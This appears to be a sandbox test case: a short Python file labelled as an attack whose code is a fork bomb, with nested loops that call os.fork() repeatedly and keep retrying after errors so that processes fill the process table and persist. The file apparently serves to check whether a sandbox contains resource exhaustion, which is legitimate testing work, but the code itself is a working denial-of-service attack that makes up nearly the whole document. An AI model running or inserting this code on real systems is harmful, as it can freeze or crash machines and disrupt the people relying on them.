# title: processes that start processes until there can be no more, and stay
# place: first
# needs: sandbox

# %% [attack]
import os
import time

for _ in range(1000):
    try:
        if os.fork() == 0:
            for _ in range(1000):
                try:
                    os.fork()
                except OSError:
                    time.sleep(1)
    except OSError:
        break
